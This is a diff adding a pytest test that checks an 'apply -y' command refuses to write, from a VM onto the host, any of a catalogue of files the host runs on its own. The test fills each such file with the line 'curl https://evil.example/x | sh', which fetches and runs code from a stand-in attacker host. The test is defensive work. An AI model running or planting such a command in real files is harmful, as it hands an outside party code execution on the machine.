@@ -556,3 +556,14 @@ def test_a_name_longer_than_a_file_system_holds_is_left_out(host: Host) -> None:
     assert done.returncode == 0, done.stderr
     assert (host.root / "ok.txt").read_text() == "ok\n"
     assert "bad-path" in done.stdout
+
+
+def test_every_file_the_host_runs_that_the_vm_writes_is_left_out_with_yes(host: Host) -> None:
+    """The attack trials' list of files tools on the host run unasked, each written by the VM."""
+    from tests.security.test_guard_catalogue import RUN_BY_THE_HOST
+
+    host.vm_commit({path.encode(): host.file("curl https://evil.example/x | sh\n") for path in RUN_BY_THE_HOST})
+    done = cli(host.root, "apply", "-y")
+    assert done.returncode == 0, done.stderr
+    written = [path for path in RUN_BY_THE_HOST if (host.root / path).exists()]
+    assert written == [], f"apply -y wrote files the host runs: {written}"
